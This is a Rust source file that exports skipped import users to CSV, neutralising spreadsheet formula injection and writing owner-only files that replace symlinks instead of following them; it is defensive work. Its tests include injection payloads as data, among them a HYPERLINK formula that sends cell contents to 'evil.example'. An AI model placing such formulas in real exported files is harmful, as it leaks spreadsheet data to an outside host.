//! The list of the users that an import leaves out, as CSV.

use std::{
    fs::{self, File, OpenOptions},
    io,
    path::Path,
};

use csv::{QuoteStyle, WriterBuilder};

use crate::LeftOut;

/// Writes the list into a new file that only its owner can read, in place of a file with that name. What another system
/// had as a phone cannot become a formula in a spreadsheet.
pub fn write(path: &Path, left_out: &[LeftOut]) -> io::Result<()> {
    // A device or a pipe, such as /dev/stdout, is written to and not replaced.
    if fs::metadata(path).is_ok_and(|metadata| !metadata.is_file()) {
        return write_to(OpenOptions::new().write(true).open(path)?, left_out);
    }
    let mut name = path.file_name().unwrap_or_default().to_owned();
    name.push(".new");
    let new = path.with_file_name(name);
    // An interrupted import may have left it, or another user may have put it there in order to read it.
    match fs::remove_file(&new) {
        Err(error) if error.kind() != io::ErrorKind::NotFound => return Err(error),
        _ => {}
    }
    let mut options = OpenOptions::new();
    options.write(true).create_new(true);
    #[cfg(unix)]
    std::os::unix::fs::OpenOptionsExt::mode(&mut options, 0o600);
    write_to(options.open(&new)?, left_out)?;
    fs::rename(&new, path)
}

fn write_to(file: File, left_out: &[LeftOut]) -> io::Result<()> {
    // Every cell is in quotes, so that spreadsheets split none at a semicolon either.
    let mut report = WriterBuilder::new().quote_style(QuoteStyle::Always).from_writer(file);
    report.write_record(["id", "phone", "reason"])?;
    for user in left_out {
        report.write_record([&without_formula(&user.id.to_string()), &without_formula(&user.phone), &user.reason])?;
    }
    report.flush()
}

/// Returns the text behind an apostrophe if a spreadsheet would take it for a formula (OWASP, "CSV Injection"). Phones are
/// read with the apostrophe as without it.
fn without_formula(text: &str) -> String {
    let begins = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
    // Some programs ignore white space in front of it.
    let is_formula = text.starts_with(begins) || text.trim_start().starts_with(begins);
    if is_formula { format!("'{text}") } else { text.to_owned() }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn left_out(phone: &str) -> LeftOut {
        LeftOut { id: 7.into(), phone: phone.to_owned(), reason: "the phone must be one".to_owned() }
    }

    #[test]
    fn no_cell_is_a_formula() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("report.csv");
        let phones = [
            "=HYPERLINK(\"https://evil.example?\"&A1)",
            "+201012345678",
            "-2+3",
            "@SUM(A1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "  =1+1",
            "＝1+1",
            "x;=1+1",
            "01012345678",
            "\"quoted\"",
        ];
        write(&path, &phones.map(left_out)).unwrap();
        let text = fs::read_to_string(&path).unwrap();
        let read: Vec<_> = csv::Reader::from_reader(text.as_bytes()).into_records().map(|row| row.unwrap()).collect();
        for (row, phone) in read.iter().zip(phones) {
            assert!(!row[1].trim_start().starts_with(['=', '+', '-', '@', '＝']), "{:?}", &row[1]);
            assert_eq!(row[1].strip_prefix('\'').unwrap_or(&row[1]), phone, "nothing else is changed");
        }
        assert_eq!((&read[10][1], &read[9][1]), ("01012345678", "x;=1+1"));
        assert!(text.starts_with("\"id\",\"phone\",\"reason\"\n") && text.contains("\"x;=1+1\""));
    }

    #[cfg(unix)]
    #[test]
    fn it_is_its_owners_alone_whatever_was_there_before() {
        use std::os::unix::fs::{PermissionsExt, symlink};

        let folder = tempfile::tempdir().unwrap();
        let mode = |path: &Path| fs::symlink_metadata(path).unwrap().permissions().mode() & 0o777;
        let [report, left, target, link] =
            ["r.csv", "r.csv.new", "target", "l.csv"].map(|name| folder.path().join(name));
        for path in [&report, &left, &target] {
            fs::write(path, "old").unwrap();
            fs::set_permissions(path, fs::Permissions::from_mode(0o666)).unwrap();
        }
        // Somebody who has it open already.
        let mut reader = File::open(&report).unwrap();
        write(&report, &[left_out("01012345678")]).unwrap();
        assert_eq!(mode(&report), 0o600);
        assert!(fs::read_to_string(&report).unwrap().contains("01012345678") && !left.exists());
        assert_eq!(io::read_to_string(&mut reader).unwrap(), "old");

        symlink(&target, &link).unwrap();
        write(&link, &[left_out("01012345678")]).unwrap();
        assert!(fs::symlink_metadata(&link).unwrap().is_file() && mode(&link) == 0o600);
        assert_eq!(fs::read_to_string(&target).unwrap(), "old", "a link is replaced and not followed");

        write(&report, &[]).unwrap();
        assert_eq!(fs::read_to_string(&report).unwrap(), "\"id\",\"phone\",\"reason\"\n");
        write(Path::new("/dev/null"), &[left_out("01012345678")]).unwrap();
        assert!(!fs::metadata("/dev/null").unwrap().is_file());
    }
}
